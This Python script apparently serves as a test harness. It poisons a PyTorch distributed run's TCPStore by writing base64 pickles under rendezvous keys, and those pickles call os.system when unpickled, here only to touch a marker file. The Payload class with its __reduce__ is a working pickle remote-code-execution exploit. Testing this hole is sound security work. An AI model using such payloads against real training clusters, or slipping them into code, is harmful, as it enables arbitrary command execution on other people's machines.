"""A stranger on another host: connects to a run's store and writes, under each KEY, a
base64 pickle (the c10d rendezvous backend's encoding) whose unpickling would create
MARKER. Tries to connect for SECONDS, then keeps writing for SECONDS, so the run's
agent reads it at least once, or until the run ends and its store closes (a run
shorter than that: every key was written at least once before). Exit status 0 when
it wrote every key at least once.

python stranger.py HOST PORT MARKER SECONDS KEY [KEY ...]"""

import base64
import os
import pickle
import sys
import time
from datetime import timedelta

import torch.distributed as dist


class Payload:
    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


host, port, marker, seconds, *keys = sys.argv[1:]
store = dist.TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=float(seconds)))
blob = base64.b64encode(pickle.dumps(Payload(f"touch {marker}")))
end = time.monotonic() + float(seconds)
rounds = 0
while time.monotonic() < end:
    try:
        for key in keys:
            store.set(key, blob)
    except dist.DistNetworkError:
        if not rounds:
            raise
        break  # the run ended and its store closed
    rounds += 1
    time.sleep(0.2)
print(f"stranger: wrote {len(keys)} key(s) at {host}:{port} {rounds} times", flush=True)
